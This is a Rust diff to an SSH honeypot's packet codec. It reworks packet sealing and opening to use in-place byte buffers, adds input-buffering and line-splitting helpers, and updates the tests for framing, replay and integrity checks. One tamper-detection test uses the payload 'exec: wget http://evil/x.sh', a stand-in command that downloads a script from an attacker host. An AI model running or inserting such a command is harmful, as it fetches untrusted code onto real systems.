@@ -10,7 +10,6 @@
 //! too; the honeypot deliberately does not (see crate docs).
 
 use crate::SshError;
-use bytes::{Buf, BufMut, Bytes, BytesMut};
 use hutil::Sha256;
 
 /// Block granularity for the "none" cipher.
@@ -27,7 +26,10 @@ pub const MAX_PACKET: usize = 35_000;
 ///
 /// Tracks the implicit packet sequence number and, once
 /// [`PacketCodec::enable_integrity`] is called (on NEWKEYS), appends and
-/// verifies tags.
+/// verifies tags. Both directions work in place: [`PacketCodec::seal`]
+/// writes the packet straight onto the output queue, and
+/// [`PacketCodec::open`] hands back the payload as a slice of the
+/// receive buffer.
 #[derive(Debug, Clone)]
 pub struct PacketCodec {
     seq: u32,
@@ -57,40 +59,43 @@ impl PacketCodec {
         self.seq
     }
 
-    /// Frames `payload` into a wire packet, advancing the sequence number.
-    pub fn seal(&mut self, payload: &[u8]) -> Bytes {
-        assert!(payload.len() <= MAX_PACKET, "payload too large");
+    /// Appends one packet to `out`, advancing the sequence number:
+    /// the header, the payload `write_payload` appends, the padding and,
+    /// once keys are in effect, the tag.
+    pub fn seal(&mut self, out: &mut Vec<u8>, write_payload: impl FnOnce(&mut Vec<u8>)) {
+        let start = out.len();
+        out.extend_from_slice(&[0; 5]); // length and padding length, set below
+        write_payload(out);
+        let payload_len = out.len() - start - 5;
+        assert!(payload_len <= MAX_PACKET, "payload too large");
         // Choose padding so that 4 + 1 + payload + pad ≡ 0 (mod BLOCK).
-        let unpadded = 4 + 1 + payload.len();
+        let unpadded = 4 + 1 + payload_len;
         let mut pad = BLOCK - (unpadded % BLOCK);
         while pad < MIN_PAD {
             pad += BLOCK;
         }
-        let packet_length = (1 + payload.len() + pad) as u32;
-        let mut out = BytesMut::with_capacity(4 + packet_length as usize + TAG_LEN);
-        out.put_u32(packet_length);
-        out.put_u8(pad as u8);
-        out.put_slice(payload);
+        let packet_length = (1 + payload_len + pad) as u32;
+        out[start..start + 4].copy_from_slice(&packet_length.to_be_bytes());
+        out[start + 4] = pad as u8;
         // Deterministic padding: a fixed rotating pattern keyed by seq. Real
         // implementations use random bytes; determinism aids replay tests
         // and the bytes are never interpreted.
-        for i in 0..pad {
-            out.put_u8((self.seq as usize + i) as u8);
-        }
+        out.extend((0..pad).map(|i| (self.seq as usize + i) as u8));
         if let Some(key) = &self.key {
-            let tag = integrity_tag(key, self.seq, &out);
-            out.put_slice(&tag);
+            let tag = integrity_tag(key, self.seq, &out[start..]);
+            out.extend_from_slice(&tag);
         }
         self.seq = self.seq.wrapping_add(1);
-        out.freeze()
     }
 
-    /// Attempts to extract one packet from the front of `buf`.
+    /// Verifies the packet at the front of `buf` without consuming it.
     ///
-    /// Returns `Ok(Some(payload))` and consumes the packet bytes on
-    /// success; `Ok(None)` if `buf` does not yet hold a complete packet;
-    /// `Err` on malformed framing or a bad tag.
-    pub fn open(&mut self, buf: &mut BytesMut) -> Result<Option<Bytes>, SshError> {
+    /// Returns `Ok(Some((payload, len)))` on success, where `payload`
+    /// borrows from `buf` and `len` is the packet's size on the wire, tag
+    /// included: the caller handles the payload, then drops `len` bytes.
+    /// The sequence number advances. `Ok(None)` if `buf` does not yet
+    /// hold a complete packet; `Err` on malformed framing or a bad tag.
+    pub fn open<'a>(&mut self, buf: &'a [u8]) -> Result<Option<(&'a [u8], usize)>, SshError> {
         if buf.len() < 5 {
             return Ok(None);
         }
@@ -113,20 +118,44 @@ impl PacketCodec {
             return Err(SshError::Framing(format!("bad padding length {pad}")));
         }
         if let Some(key) = &self.key {
-            let body = &buf[..4 + packet_length];
-            let want = integrity_tag(key, self.seq, body);
-            let got = &buf[4 + packet_length..total];
-            if got != want {
+            let (body, got) = buf[..total].split_at(4 + packet_length);
+            if got != integrity_tag(key, self.seq, body) {
                 return Err(SshError::Framing("integrity tag mismatch".into()));
             }
         }
-        let mut packet = buf.split_to(total);
-        packet.advance(5);
-        let payload_len = packet_length - 1 - pad;
-        let payload = packet.split_to(payload_len).freeze();
         self.seq = self.seq.wrapping_add(1);
-        Ok(Some(payload))
+        Ok(Some((&buf[5..4 + packet_length - pad], total)))
     }
+}
+
+/// Feeds a machine the bytes `data` brought, copying only what it
+/// leaves incomplete. `pending` holds what earlier input left: part of a
+/// version line or of a packet. With nothing pending, `consume` reads
+/// `data` where it lies; otherwise `data` joins `pending` first.
+/// `consume` handles what is complete at the front of the bytes it is
+/// given and returns how many of them it used; the rest is kept.
+pub(crate) fn feed(
+    pending: &mut Vec<u8>,
+    data: &[u8],
+    consume: impl FnOnce(&[u8]) -> Result<usize, SshError>,
+) -> Result<(), SshError> {
+    if pending.is_empty() {
+        let used = consume(data)?;
+        pending.extend_from_slice(&data[used..]);
+    } else {
+        pending.extend_from_slice(data);
+        let used = consume(pending)?;
+        pending.drain(..used);
+    }
+    Ok(())
+}
+
+/// Splits one `\n`-terminated line off the front of `buf`: the line
+/// without its line end (and a `\r` before it), and the bytes it took.
+pub(crate) fn split_line(buf: &[u8]) -> Option<(&[u8], usize)> {
+    let pos = buf.iter().position(|&b| b == b'\n')?;
+    let line = &buf[..pos];
+    Some((line.strip_suffix(b"\r").unwrap_or(line), pos + 1))
 }
 
 fn integrity_tag(key: &[u8; 32], seq: u32, packet: &[u8]) -> [u8; TAG_LEN] {
@@ -144,43 +173,61 @@ fn integrity_tag(key: &[u8; 32], seq: u32, packet: &[u8]) -> [u8; TAG_LEN] {
 mod tests {
     use super::*;
 
+    fn sealed(tx: &mut PacketCodec, payload: &[u8]) -> Vec<u8> {
+        let mut wire = Vec::new();
+        tx.seal(&mut wire, |b| b.extend_from_slice(payload));
+        wire
+    }
+
     #[test]
     fn roundtrip_various_sizes() {
         let mut tx = PacketCodec::new();
         let mut rx = PacketCodec::new();
         for n in [0usize, 1, 7, 8, 9, 255, 256, 1000] {
             let payload: Vec<u8> = (0..n).map(|i| i as u8).collect();
-            let wire = tx.seal(&payload);
+            let wire = sealed(&mut tx, &payload);
             assert_eq!((wire.len()) % BLOCK, 0, "wire not block aligned for n={n}");
-            let mut buf = BytesMut::from(&wire[..]);
-            let got = rx.open(&mut buf).unwrap().expect("complete packet");
-            assert_eq!(&got[..], &payload[..]);
-            assert!(buf.is_empty());
+            let (got, len) = rx.open(&wire).unwrap().expect("complete packet");
+            assert_eq!(got, &payload[..]);
+            assert_eq!(len, wire.len());
         }
     }
 
     #[test]
-    fn partial_input_returns_none_without_consuming() {
+    fn seal_appends_to_what_the_queue_holds() {
         let mut tx = PacketCodec::new();
-        let wire = tx.seal(b"hello world");
-        let rx = PacketCodec::new();
+        let mut queue = b"SSH-2.0-x\r\n".to_vec();
+        tx.seal(&mut queue, |b| b.extend_from_slice(b"one"));
+        let one = sealed(&mut PacketCodec::new(), b"one");
+        assert_eq!(&queue[..11], b"SSH-2.0-x\r\n");
+        assert_eq!(&queue[11..], &one[..]);
+    }
+
+    #[test]
+    fn partial_input_returns_none_and_keeps_the_sequence() {
+        let mut tx = PacketCodec::new();
+        let wire = sealed(&mut tx, b"hello world");
+        let mut rx = PacketCodec::new();
         for cut in 0..wire.len() {
-            let mut buf = BytesMut::from(&wire[..cut]);
-            assert_eq!(rx.clone().open(&mut buf).unwrap(), None, "cut={cut}");
-            assert_eq!(buf.len(), cut, "must not consume partial packet");
+            assert_eq!(rx.open(&wire[..cut]).unwrap(), None, "cut={cut}");
+            assert_eq!(rx.seq(), 0, "cut={cut}");
         }
+        assert!(rx.open(&wire).unwrap().is_some());
+        assert_eq!(rx.seq(), 1);
     }
 
     #[test]
     fn multiple_packets_in_one_buffer() {
         let mut tx = PacketCodec::new();
-        let mut buf = BytesMut::new();
-        buf.extend_from_slice(&tx.seal(b"one"));
-        buf.extend_from_slice(&tx.seal(b"two"));
+        let mut buf = sealed(&mut tx, b"one");
+        buf.extend_from_slice(&sealed(&mut tx, b"two"));
         let mut rx = PacketCodec::new();
-        assert_eq!(&rx.open(&mut buf).unwrap().unwrap()[..], b"one");
-        assert_eq!(&rx.open(&mut buf).unwrap().unwrap()[..], b"two");
-        assert_eq!(rx.open(&mut buf).unwrap(), None);
+        let (one, len) = rx.open(&buf).unwrap().unwrap();
+        assert_eq!(one, b"one");
+        let (two, len2) = rx.open(&buf[len..]).unwrap().unwrap();
+        assert_eq!(two, b"two");
+        assert_eq!(len + len2, buf.len());
+        assert_eq!(rx.open(&buf[len + len2..]).unwrap(), None);
     }
 
     #[test]
@@ -188,18 +235,17 @@ mod tests {
         let key = [7u8; 32];
         let mut tx = PacketCodec::new();
         tx.enable_integrity(key);
-        let wire = tx.seal(b"exec: wget http://evil/x.sh");
+        let wire = sealed(&mut tx, b"exec: wget http://evil/x.sh");
         let mut rx = PacketCodec::new();
         rx.enable_integrity(key);
         // Pristine copy opens fine.
-        let mut ok = BytesMut::from(&wire[..]);
-        assert!(rx.clone().open(&mut ok).unwrap().is_some());
+        assert!(rx.clone().open(&wire).unwrap().is_some());
         // Any single bit flip in the body is caught.
         for i in [5usize, 10, wire.len() - TAG_LEN - 1] {
-            let mut bad = BytesMut::from(&wire[..]);
+            let mut bad = wire.clone();
             bad[i] ^= 1;
             assert!(
-                matches!(rx.clone().open(&mut bad), Err(SshError::Framing(_))),
+                matches!(rx.clone().open(&bad), Err(SshError::Framing(_))),
                 "flip at {i} not caught"
             );
         }
@@ -210,26 +256,61 @@ mod tests {
         let key = [1u8; 32];
         let mut tx = PacketCodec::new();
         tx.enable_integrity(key);
-        let _skip = tx.seal(b"first");
-        let second = tx.seal(b"second");
+        let _skip = sealed(&mut tx, b"first");
+        let second = sealed(&mut tx, b"second");
         let mut rx = PacketCodec::new();
         rx.enable_integrity(key);
         // rx is at seq 0 but the packet was sealed at seq 1 → replay detected.
-        let mut buf = BytesMut::from(&second[..]);
-        assert!(matches!(rx.open(&mut buf), Err(SshError::Framing(_))));
+        assert!(matches!(rx.open(&second), Err(SshError::Framing(_))));
     }
 
     #[test]
     fn rejects_hostile_lengths() {
         let mut rx = PacketCodec::new();
         // Absurd length field.
-        let mut buf = BytesMut::from(&[0xff, 0xff, 0xff, 0xff, 0x04, 0, 0, 0][..]);
-        assert!(matches!(rx.open(&mut buf), Err(SshError::Framing(_))));
+        let absurd = [0xff, 0xff, 0xff, 0xff, 0x04, 0, 0, 0];
+        assert!(matches!(rx.open(&absurd), Err(SshError::Framing(_))));
         // Padding claims more than the packet holds.
-        let mut tx = PacketCodec::new();
-        let wire = tx.seal(b"x");
-        let mut evil = BytesMut::from(&wire[..]);
+        let mut evil = sealed(&mut PacketCodec::new(), b"x");
         evil[4] = 0xff;
-        assert!(matches!(rx.open(&mut evil), Err(SshError::Framing(_))));
+        assert!(matches!(rx.open(&evil), Err(SshError::Framing(_))));
+    }
+
+    #[test]
+    fn feed_buffers_only_the_incomplete_tail() {
+        let mut tx = PacketCodec::new();
+        let mut wire = sealed(&mut tx, b"one");
+        wire.extend_from_slice(&sealed(&mut tx, b"two"));
+        let mut rx = PacketCodec::new();
+        let mut got = Vec::new();
+        let mut consume = |bytes: &[u8]| {
+            let mut used = 0;
+            while let Some((payload, len)) = rx.open(&bytes[used..])? {
+                got.push(payload.to_vec());
+                used += len;
+            }
+            Ok(used)
+        };
+        // The first packet and three bytes of the second arrive together.
+        let first = wire.len() / 2 + 3;
+        let mut pending = Vec::new();
+        feed(&mut pending, &wire[..first], &mut consume).unwrap();
+        assert_eq!(pending, &wire[wire.len() / 2..first]);
+        feed(&mut pending, &wire[first..], &mut consume).unwrap();
+        assert!(pending.is_empty());
+        assert_eq!(got, [b"one".to_vec(), b"two".to_vec()]);
+    }
+
+    #[test]
+    fn split_line_handles_crlf_and_partial() {
+        assert_eq!(
+            split_line(b"SSH-2.0-x\r\nrest"),
+            Some((&b"SSH-2.0-x"[..], 11))
+        );
+        assert_eq!(
+            split_line(b"SSH-2.0-y\nrest"),
+            Some((&b"SSH-2.0-y"[..], 10))
+        );
+        assert_eq!(split_line(b"rest"), None);
     }
 }
